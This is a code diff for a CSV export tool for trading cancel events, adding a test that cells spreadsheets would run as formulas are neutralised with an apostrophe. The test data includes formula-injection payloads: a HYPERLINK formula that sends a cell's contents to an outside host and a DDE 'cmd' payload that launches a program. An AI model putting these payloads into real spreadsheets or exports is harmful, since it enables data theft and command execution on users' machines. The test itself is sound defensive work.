@@ -72,7 +72,7 @@ def events_of(path: Path) -> list[CancelEvent]:
 
 def from_cells(row: dict[str, str]) -> CancelEvent:
     """The event of a row of CSV."""
-    cells: dict[str, Any] = {name: text or None for name, text in row.items()}
+    cells: dict[str, Any] = {name: text.removeprefix("'") or None for name, text in row.items()}
     for name in ("extra", "from_request"):
         cells[name] = json.loads(cells[name] or "null")
     return msgspec.convert(cells, CancelEvent, strict=False)
@@ -248,6 +248,34 @@ def test_texts_may_be_compressed(run: Run, log: Log, tmp_path: Path) -> None:
             ["gzip", "-dc", tmp_path / f"e.{form}.gz"], capture_output=True, check=True
         ).stdout
         assert unpacked == (tmp_path / f"e.{form}").read_bytes()
+
+
+FORMULAS = (
+    '=HYPERLINK("http://host/?"&A1)',
+    "+1",
+    "-1+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "\uff1d1",
+    "\t=1",
+    "\r=1",
+    "'=1",
+    "'",
+)
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, "-2011", "-1.50", "1=1"])
+def test_no_cell_is_a_formula(run: Run, log: Log, tmp_path: Path, text: str) -> None:
+    """An apostrophe before a text that a spreadsheet would run is all that differs; numbers stay numbers."""
+    name = log(REJECTED.replace('"Unknown order sent."', json.dumps(text)))
+    assert run("convert", name, "-o", "e.csv").code == 0
+    assert run("check", name, "--events", "checked.csv", "--exit-zero").code == 0
+    assert (tmp_path / "checked.csv").read_bytes() == (tmp_path / "e.csv").read_bytes()
+    [row] = rows_of(tmp_path / "e.csv")
+    assert row["code"] == "-2011"
+    cell = row["message"]
+    assert cell.startswith("'") == (text.strip() == text and text in FORMULAS)
+    assert cell.removeprefix("'") == json.dumps(text, ensure_ascii=False)[1:-1].replace('\\"', '"')
+    assert not cell.startswith(("=", "+", "@", "\t", "\r"))
 
 
 @pytest.mark.parametrize(
